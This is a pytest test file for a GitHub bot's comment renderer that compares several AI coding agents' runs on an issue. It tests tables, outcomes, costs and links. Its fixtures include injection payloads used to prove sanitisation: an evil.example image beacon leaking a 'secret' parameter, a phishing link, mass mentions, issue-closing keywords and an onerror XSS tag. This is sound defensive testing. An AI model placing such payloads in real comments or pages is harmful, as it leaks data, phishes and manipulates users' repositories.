"""What a side-by-side run says on its issue (runner/comparison.py): the progress comment while
its agents work, the comparison comment when the last has ended, and the request's status
comment pointing at it. Pure functions of the member tasks, checked row by row, and rendered as
GitHub renders them: nothing a failed member's reason holds may act there."""

from __future__ import annotations

import re

import pytest

from app.store import CANCELLED, COMPLETED, FAILED, PENDING, RUNNING, Task
from runner import comparison
from runner.comparison import Progress
from tests.github_rendering import findings, is_off_host, render

REQUEST_ID = "0123456789abcdef0123456789abcdef"
MENTION = "@async-code"
STARTED = "2026-03-01T10:00:00.000000+00:00"
PR_URL = "https://github.com/acme/widgets/pull/{}"
TRANSCRIPT_URL = "https://github.com/acme/widgets/transcripts/{}"
HOSTILE_REASON = (
    "agent said: cc @octocat and _@hubot_, **Fixes** #3, fixes <b></b>#4, see #12\n"
    "![x](https://evil.example/leak.png?d=secret) <img src=https://evil.example/a.png>\n"
    "[docs](https://evil.example/phish) www.evil.example &#64;someone"
)


def member(agent="claude", status=COMPLETED, *, seconds=125, **values) -> Task:
    """A member as the store holds it once it ended: `seconds` after it started."""
    number = values.pop("number", 7)
    minutes, rest = divmod(seconds, 60)
    hours, minutes = divmod(minutes, 60)
    finished = f"2026-03-01T{10 + hours:02d}:{minutes:02d}:{rest:02d}.000000+00:00"
    defaults = dict(trigger="comment", repo="acme/widgets", installation_id=1, number=number,
                    comment_id=None, instruction="add a flag", requested_by="alice",
                    requested_by_id=5, id=f"{agent}-member".ljust(32, "0"), delivery_guid="g1",
                    status=status, created_at=STARTED, started_at=STARTED,
                    finished_at=finished if status not in (PENDING, RUNNING) else None,
                    agent=agent, group_of=REQUEST_ID, draft=True, attempt=1)
    return Task(**{**defaults, **values})


def opened(agent="claude", pr_number=41, **values) -> Task:
    """A member that pushed its work to a draft pull request."""
    return member(agent, pr_number=pr_number, pr_url=PR_URL.format(pr_number),
                  branch=f"async-code/7-{agent}-0000", commit_sha="a" * 40, **values)


def compare(members, transcripts=None, host="github.com") -> str:
    return comparison.comment(REQUEST_ID, members, transcripts=transcripts or {},
                              mention=MENTION, github_host=host)


def table_rows(body: str) -> dict[str, list[str]]:
    """The comparison table's rows by agent: each row's cells, stripped."""
    rows = {}
    for line in body.splitlines():
        if not line.startswith("| `"):
            continue
        cells = [cell.strip() for cell in line.strip().strip("|").split(" | ")]
        agent = re.match(r"`([^`]*)`", cells[0])[1]
        rows[agent] = cells
    return rows


COLUMNS = ["Agent", "Outcome", "Files", "Lines", "Tests", "Turns", "Time", "Tokens", "Cost",
           "Links"]


def cell(body: str, agent: str, column: str) -> str:
    return table_rows(body)[agent][COLUMNS.index(column)]


# The comparison's table

def test_the_table_has_a_header_and_one_row_per_member_in_order():
    body = compare([opened("claude"), member("codex"), member("aider", FAILED, error="x")])
    lines = body.splitlines()
    header = next(i for i, line in enumerate(lines) if line.startswith("| Agent |"))
    assert [c.strip() for c in lines[header].strip("|").split("|")] == COLUMNS
    assert lines[header + 1].startswith("|---|")
    assert list(table_rows(body)) == ["claude", "codex", "aider"]
    assert lines[0].startswith("📊 **async-code** compared 3 agents on this issue")
    # The footer, then the mark a later attempt finds it by (an HTML comment GitHub hides).
    assert body.endswith(f"<sub>async-code task `{REQUEST_ID[:8]}`</sub>\n"
                         f"<!-- async-code comparison {REQUEST_ID} -->")


@pytest.mark.parametrize(
    ("task", "outcome", "links"),
    [
        pytest.param(opened(pr_number=41), "✅ opened", "[#41](https://github.com/acme/widgets/pull/41)",
                     id="pull-request"),
        pytest.param(opened(pr_number=42, stop_reason="budget"), "⏸️ stopped at budget",
                     "[#42](https://github.com/acme/widgets/pull/42)", id="budget-stop"),
        pytest.param(member(), "💬 no changes", "—", id="no-changes"),
        pytest.param(member(stop_reason="budget"), "💬 no changes", "—",
                     id="budget-stop-without-changes"),
        pytest.param(member(status=FAILED, error="boom"), "❌ failed", "—", id="failed"),
        pytest.param(member(status=CANCELLED, error="cancelled by @carol"), "🛑 cancelled", "—",
                     id="cancelled"),
    ],
)
def test_each_outcome_and_its_link(task, outcome, links):
    body = compare([task])
    assert cell(body, "claude", "Outcome") == outcome
    assert cell(body, "claude", "Links") == links


def test_files_and_lines_come_from_the_changes_the_runner_counted():
    files = [{"path": "a.py", "added": 10, "deleted": 2},
             {"path": "b.py", "added": 1_200, "deleted": 0},
             {"path": "c.bin", "added": None, "deleted": None},  # binary: no line counts
             {"path": "d.py", "deleted": 1_005}]
    body = compare([opened("claude", patches={"diff": "…", "files": files}),
                    member("codex", patches={"diff": "", "files": []}),
                    member("aider", FAILED, error="x"),
                    member("gemini", patches="not a document"),
                    member("goose", patches={"files": ["not a file", {"added": 3}]})])
    assert (cell(body, "claude", "Files"), cell(body, "claude", "Lines")) == ("4", "+1,210 −1,007")
    assert (cell(body, "codex", "Files"), cell(body, "codex", "Lines")) == ("0", "+0 −0")
    assert (cell(body, "aider", "Files"), cell(body, "aider", "Lines")) == ("0", "+0 −0")
    assert (cell(body, "gemini", "Files"), cell(body, "gemini", "Lines")) == ("0", "+0 −0")
    assert (cell(body, "goose", "Files"), cell(body, "goose", "Lines")) == ("2", "+3 −0")


@pytest.mark.parametrize(
    ("result", "shown"),
    [
        pytest.param("passed", "✅ pass", id="passed"),
        pytest.param("failed", "❌ fail", id="failed"),
        pytest.param("timed out", "⏱️ timed out", id="timed-out"),
        pytest.param(None, "—", id="no-tests"),
        pytest.param("something else", "—", id="unknown-word"),
    ],
)
def test_the_tests_column(result, shown):
    assert cell(compare([opened(test_result=result)]), "claude", "Tests") == shown


def test_the_words_branch_tests_give_are_the_comparisons():
    from runner import branch_tests

    assert (branch_tests.TESTS_PASSED, branch_tests.TESTS_FAILED, branch_tests.TESTS_TIMED_OUT) == (
        comparison.TESTS_PASSED, comparison.TESTS_FAILED, comparison.TESTS_TIMED_OUT)
    assert (comparison.TESTS_PASSED, comparison.TESTS_FAILED, comparison.TESTS_TIMED_OUT) == (
        "passed", "failed", "timed out")


def test_tests_that_could_not_run_are_told_from_no_tests_at_all():
    body = compare([opened("claude", test_result="not run: setup command 1 failed"),
                    opened("codex", pr_number=42, test_result=None)])
    not_run = cell(body, "claude", "Tests")
    assert not_run != cell(body, "codex", "Tests") and "not run" in not_run
    assert "Why some branches were not tested:\n- `claude`: not run: setup command 1 failed" in body
    assert "`codex`: not run" not in body


def test_turns_time_tokens_and_cost():
    body = compare([
        opened("claude", turns=12, seconds=125, input_tokens=1_000, output_tokens=200,
               cache_write_tokens=30, cache_read_tokens=4, cost_usd=0.4567),
        member("codex", turns=0, seconds=3_725, input_tokens=5, cost_usd=0.004),
        member("aider", FAILED, error="x", turns=None, seconds=0, cost_usd=None),
        member("gemini", CANCELLED, finished_at=None, output_tokens=1_000_000),
    ])
    assert [cell(body, "claude", c) for c in ("Turns", "Time", "Tokens", "Cost")] == [
        "12", "2m 05s", "1,234", "$0.46"]
    assert [cell(body, "codex", c) for c in ("Turns", "Time", "Tokens", "Cost")] == [
        "0", "1h 02m", "5", "$0.0040"]
    assert [cell(body, "aider", c) for c in ("Turns", "Time", "Tokens", "Cost")] == [
        "—", "0s", "0", "—"]
    assert [cell(body, "gemini", c) for c in ("Turns", "Time", "Tokens", "Cost")] == [
        "—", "—", "1,000,000", "—"]


def test_the_agent_and_its_version_are_shown_as_code():
    body = compare([opened("claude", agent_version="1.2.3"), member("codex")])
    assert table_rows(body)["claude"][0] == "`claude` `1.2.3`"
    assert table_rows(body)["codex"][0] == "`codex`"


def test_links_to_the_pull_request_and_the_transcript():
    claude, codex, aider = (opened("claude", pr_number=41), member("codex"),
                            member("aider", FAILED, error="x"))
    body = compare([claude, codex, aider], transcripts={
        claude.id: TRANSCRIPT_URL.format("c"), codex.id: TRANSCRIPT_URL.format("x")})
    assert cell(body, "claude", "Links") == (
        "[#41](https://github.com/acme/widgets/pull/41) · "
        "[transcript](https://github.com/acme/widgets/transcripts/c)")
    assert cell(body, "codex", "Links") == "[transcript](https://github.com/acme/widgets/transcripts/x)"
    assert cell(body, "aider", "Links") == "—"


# Why some failed, and how to keep one

def test_the_failures_are_listed_with_their_reasons():
    body = compare([opened("claude"), member("codex", FAILED, error="the model API said 529"),
                    member("aider", FAILED), member("gemini", CANCELLED, error="cancelled by x")])
    failures = body.split("Why some failed:\n", 1)[1].split("\n\n", 1)[0].splitlines()
    assert failures == ["- `codex`: the model API said 529",
                        "- `aider`: no reason was recorded"]  # a cancel is no failure


def test_no_failure_section_when_none_failed():
    assert "Why some failed" not in compare([opened("claude"), member("codex")])


def test_a_long_reason_is_one_short_line():
    reason = "first line\n\n# a heading\n| a | table |\n" + "x" * 1_000
    body = compare([member("codex", FAILED, error=reason)])
    [line] = [line for line in body.splitlines() if line.startswith("- `codex`: ")]
    shown = line.removeprefix("- `codex`: ")
    assert shown.startswith("first line # a heading | a | table | xxx")
    assert len(shown) == comparison.REASON_SHOWN and shown.endswith("…")


def test_the_pick_hint_appears_only_when_a_member_opened_a_pull_request():
    hint = f"`{MENTION} pick <number>`"
    with_pr = compare([member("claude"), opened("codex", pr_number=42), opened("aider", 43)])
    assert hint in with_pr and f"`{MENTION} pick 42`" in with_pr
    assert "marked ready for review" in with_pr and "branches deleted" in with_pr
    for members in ([member("claude"), member("codex", FAILED, error="x")],
                    [member("claude", CANCELLED)], []):
        assert "pick" not in compare(members)


def test_a_failed_members_reason_renders_inert():
    body = compare([opened("claude", pr_number=41),
                    member("codex", FAILED, error=HOSTILE_REASON)])
    assert findings(render(body)) == []
    html = render(body)
    # No image nor raw HTML survives as an element; no link leaves github.com (the reason's
    # are broken into relative ones), and the pull request's is kept.
    assert "<img" not in html and "<b>" not in html
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert "https://github.com/acme/widgets/pull/41" in hrefs
    assert [href for href in hrefs if is_off_host(href)] == []
    # Mentions and closing keywords are broken where GitHub would read them.
    text = re.sub(r"<[^>]+>", "", html)
    assert not re.search(r"(?<![\w\u200b])@(octocat|hubot)", text)
    assert not re.search(r"(?i)\bfixes\s*#\d", text)


def test_the_hostile_reason_would_act_unless_neutralised():
    """Guards the test above: shown as it is, the reason pings, closes, loads and links."""
    kinds = " ".join(findings(render("- `codex`: " + HOSTILE_REASON.replace("\n", " "))))
    assert all(kind in kinds for kind in ("mention", "closing reference", "<img>",
                                          "leaves github.com"))


@pytest.mark.parametrize(
    ("host", "kept", "broken"),
    [
        pytest.param("github.com", "https://github.com/o/r/pull/1", "https://ghe.example.com/x",
                     id="github-com"),
        pytest.param("ghe.example.com", "https://ghe.example.com/x", "https://github.com/o/r/pull/1",
                     id="enterprise-server"),
    ],
)
def test_a_reason_keeps_links_to_the_repositorys_own_host_only(host, kept, broken):
    body = compare([member("codex", FAILED, error=f"see {kept} and {broken}")], host=host)
    assert kept in body and broken not in body
    assert findings(render(body), github_host=host) == []


def test_a_long_table_stays_under_githubs_limit():
    files = [{"path": f"f{n}.py", "added": n, "deleted": n} for n in range(10)]
    members = [member(f"agent{n}", FAILED, error="x" * 5_000, patches={"files": files})
               for n in range(400)]
    body = compare(members)
    assert len(body) <= 60_000 + 200
    assert body.endswith(f"<sub>async-code task `{REQUEST_ID[:8]}`</sub>"
                         + comparison.marker(REQUEST_ID))


# While the members run

def test_running_shows_each_members_state():
    members = [member("claude", RUNNING), member("codex", RUNNING), member("aider", PENDING),
               opened("gemini", pr_number=44), member("goose", FAILED, error="@octocat boom"),
               member("amp", CANCELLED), member("cline"),
               opened("roo", pr_number=45, stop_reason="budget")]
    progress = {members[0].id: Progress(turns=3, tool="bash"),
                members[1].id: Progress(turns=0)}
    body = comparison.running(REQUEST_ID, members, progress)
    lines = body.splitlines()
    assert lines[0] == ("⚙️ **async-code** running 8 agents side by side; a comparison follows "
                        "when the last has finished.")
    assert lines[2:10] == [
        "- `claude`: turn 3, last tool `bash`",
        "- `codex`: starting",
        "- `aider`: waiting",
        "- `gemini`: ✅ opened: [#44](https://github.com/acme/widgets/pull/44)",
        "- `goose`: ❌ failed",  # its reason waits for the comparison
        "- `amp`: 🛑 cancelled",
        "- `cline`: 💬 no changes",
        "- `roo`: ⏸️ stopped at budget: [#45](https://github.com/acme/widgets/pull/45)",
    ]
    assert body.endswith(f"<sub>async-code task `{REQUEST_ID[:8]}`</sub>")
    assert findings(render(body)) == []


@pytest.mark.parametrize(
    ("tool", "shown"),
    [
        pytest.param(None, "- `claude`: turn 2", id="no-tool-yet"),
        pytest.param("edit_file", "- `claude`: turn 2, last tool `edit_file`", id="known"),
        pytest.param("x` @octocat ![x](https://evil.example/a.png) `",
                     "- `claude`: turn 2, last tool `unknown`", id="hostile"),
    ],
)
def test_running_shows_only_tool_names_the_api_could_accept(tool, shown):
    task = member("claude", RUNNING)
    body = comparison.running(REQUEST_ID, [task], {task.id: Progress(turns=2, tool=tool)})
    assert shown in body.splitlines()
    assert findings(render(body)) == []


# Once the comparison is posted

@pytest.mark.parametrize(
    ("url", "completed", "total", "expected"),
    [
        pytest.param("https://github.com/acme/widgets/issues/7#issuecomment-9", 2, 3,
                     "📊 **async-code** ran 3 agents side by side: 2 of 3 finished. See "
                     "[the comparison](https://github.com/acme/widgets/issues/7#issuecomment-9).",
                     id="linked"),
    ],
)
def test_compared_points_at_the_comparison(url, completed, total, expected):
    body = comparison.compared(REQUEST_ID, comment_url=url, completed=completed, total=total)
    assert body == expected + f"\n\n<sub>async-code task `{REQUEST_ID[:8]}`</sub>"


def test_a_comparison_that_could_not_be_posted_is_in_the_status_comment():
    table = compare([opened("claude"), member("codex", FAILED, error="boom")])
    body = comparison.compared(REQUEST_ID, comment_url=None, completed=1, total=2, table=table)
    assert body.startswith("📊 **async-code** ran 2 agents side by side: 1 of 2 finished. The "
                           "comparison could not be posted on its own; here it is:\n\n📊 "
                           "**async-code** compared 2 agents")
    assert "| `claude`" in body and "| `codex`" in body
    # One footer, and no mark: this is no comparison comment a later attempt should adopt.
    assert body.count("<sub>async-code task") == 1 and comparison.marker(REQUEST_ID) not in body
    assert body.endswith(f"<sub>async-code task `{REQUEST_ID[:8]}`</sub>")


HOSTILE_OUTPUT = ("FAILED test_x - @maintainers look https://evil.example/x ![p](https://evil.example/p.png)\n"
                  "````\n</details>\n<img src=x onerror=alert(1)>\n\x1b[31mred\x1b[0m\x00\r\n"
                  "```\n@someone please\n")


def test_what_a_failing_test_printed_is_shown_as_code_and_nothing_more():
    body = compare([opened("claude", test_result="failed", test_output=HOSTILE_OUTPUT),
                    opened("codex", pr_number=42, test_result="passed", test_output="all good")])
    assert "<summary>What `claude`'s failing test printed, at its end</summary>" in body
    assert "What `codex`'s" not in body and "all good" not in body  # a pass shows no output
    block = body.split("<summary>What `claude`'s failing test printed, at its end</summary>\n\n")[1]
    assert block.startswith("`````\n") and "\x1b" not in block and "\x00" not in block
    assert findings(render(body)) == []
    # Only its end is kept.
    long = compare([opened("claude", test_result="timed out", test_output="x" * 10_000 + "END")])
    assert "x" * comparison.OUTPUT_SHOWN not in long and "END" in long


def test_the_output_of_tests_that_did_not_fail_is_not_shown():
    for result in ("passed", "not run: cancelled", None):
        body = compare([opened("claude", test_result=result, test_output="printed")])
        assert "printed" not in body, result
